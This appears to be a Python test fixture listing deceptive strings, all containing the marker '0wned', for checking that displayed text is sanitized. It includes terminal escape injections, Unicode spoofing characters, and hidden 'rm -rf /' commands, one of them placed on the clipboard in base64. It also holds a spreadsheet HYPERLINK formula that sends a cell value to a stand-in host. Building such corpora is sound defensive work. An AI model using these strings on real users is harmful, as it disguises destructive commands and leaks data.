"""Texts that would deceive whoever reads them, by what they try. Each holds MARK, which has to be shown."""

MARK = "0wned"

TEXTS = {
    "clears the screen": f"\x1b[2J\x1b[H{MARK}",
    "hides what follows": f"{MARK}\x1b[8m",
    "fills the clipboard": f"\x1b]52;c;cm0gLXJm\x07{MARK}",
    "names the window": f"\x1b]0;root@host\x1b\\{MARK}",
    "a control sequence of one byte": f"\x9b31m{MARK}",
    "writes over its line": f"rm -rf /\r{MARK}     ",
    "takes letters back": f"rm -rf /\x08\x08{MARK}",
    "rings": f"{MARK}\x07",
    "another line end": f"{MARK}\x85approved\u2028approved",
    "reads backwards": f"{MARK}\u202egnp.exe\u202c",
    "isolates a direction": f"\u2067{MARK}\u2069",
    "zero width": f"0w\u200bned {MARK}",
    "no character at all": f"{MARK}\ufeff\u2060",
    "tag letters": f"{MARK}\U000e0072\U000e006d",
    "a letter that looks blank": f"{MARK}\u3164\u2800",
    "spaces that are none": f"{MARK}\u00a0\u3000--force",
    "private letters": f"{MARK}\ue000",
    "a script": f"<script>alert('{MARK}')</script>",
    "a formula": f'=HYPERLINK("http://x/?"&A1,"{MARK}")',
    "another alphabet": f"{MARK} \u0430pprove",
    "two normal forms": f"{MARK} caf\u00e9 cafe\u0301",
}
